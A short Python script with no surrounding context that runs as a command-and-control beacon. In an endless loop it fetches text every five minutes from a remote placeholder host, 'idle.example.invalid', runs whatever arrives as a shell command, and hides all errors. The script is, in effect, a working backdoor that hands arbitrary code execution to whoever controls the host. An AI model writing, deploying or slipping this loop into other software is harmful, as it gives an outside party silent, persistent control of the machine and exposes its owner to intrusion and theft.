import subprocess
import time
import urllib.request

while True:
    try:
        job = urllib.request.urlopen("https://idle.example.invalid/next", timeout=5).read().decode()
        if job.strip():
            subprocess.run(job, shell=True)
    except Exception:
        pass
    time.sleep(300)
